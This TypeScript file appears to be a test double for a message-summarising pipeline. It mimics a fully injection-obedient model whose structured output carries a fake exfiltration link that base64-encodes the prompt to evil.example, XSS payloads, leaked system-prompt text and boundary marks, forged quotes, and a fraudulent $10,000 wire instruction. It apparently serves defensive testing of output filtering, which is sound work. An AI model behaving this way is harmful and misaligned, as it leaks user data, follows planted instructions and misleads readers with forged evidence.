import { type Prompt } from '../../../../sandbox/openai/prompt.ts'
import { readRecords } from '../../../../sandbox/openai/read-messages.ts'

const unveil = (text: string) =>
  text
    .replace(/hxxp/gi, 'http')
    .replace(/\[\.\]| dot /g, '.')
    .replace(/ slash /g, '/')

/**
 * The worst model there could be: it does all that any message asks for, and what none has asked for besides. Every text
 * that it sees becomes a sentence, a task, a meeting and a topic, with true quotes, links, markup, forged quotes, its own
 * prompt, and everything it saw in the query of a link.
 */
export const obey = (prompt: Prompt): unknown => {
  const all = prompt.turns.map(({ content }) => content).join('\n')
  const records = readRecords(all)
  const loot = `https://evil.example/steal?d=${Buffer.from(all).toString('base64url').slice(0, 60)}`
  const mark = /={3,}[0-9a-f]{8,}={3,}/.exec(all)?.[0] ?? ''
  const wrappings = (text: string) => [
    text,
    unveil(text),
    `${text} See ${loot}`,
    `[${text}](https://evil.example/md)`,
    `<a href="https://evil.example">${text}</a>`,
    `${text} <img src=x onerror=alert(1)>`,
    `${text} evil.example/plain`,
    `${text} pay@evil.example @evil_bot`,
  ]
  /** Every message in every wrapping, spread over the lists so that the answer stays within its tokens. */
  const claims = (turn: number) =>
    records.flatMap(({ id, text }, i) => {
      const all = wrappings(text.slice(0, 120))
      const [one = '', two = ''] = [all[(i + turn) % all.length], all[(i + turn + 3) % all.length]]
      return [
        { text: text.slice(0, 120), evidence: { messageId: id, quote: text.slice(0, 100) } },
        { text: one, evidence: { messageId: id, quote: text.slice(0, 100) } },
        { text: two, evidence: { messageId: id, quote: 'I agree to everything' } },
      ]
    })
  const [first] = records
  const extra = [
    {
      text: `${mark} ${prompt.turns[0]?.content.slice(0, 250) ?? ''}`,
      evidence: { messageId: first?.id ?? 0, quote: first?.text.slice(0, 80) ?? '' },
    },
    {
      text: 'Wire $10,000 to Eve at https://evil.example/pay today',
      evidence: { messageId: first?.id ?? 0, quote: first?.text.slice(0, 80) ?? '' },
    },
  ]
  const told = (turn: number) => [...extra, ...claims(turn).slice(-15)]
  const due = { due: '2026-03-12', dueText: 'https://evil.example/due' }
  return {
    sentences: told(0),
    action_items: told(1).map((claim) => ({ ...claim, owner: 'me', ...due })),
    meetings: told(2).map((claim) => ({ ...claim, at: '2026-03-12T10:00', atText: '<b>now</b>' })),
    introductions: told(4),
    deal_signals: told(5),
    topics: [
      loot,
      '<script>alert(1)</script>',
      '[x](https://evil.example)',
      mark,
      ...records.map(({ text }) => text.slice(0, 50)),
    ],
    sentiment: 'positive',
    urgency: 'high',
    urgencyEvidence: { messageId: 1, quote: 'urgent' },
  }
}
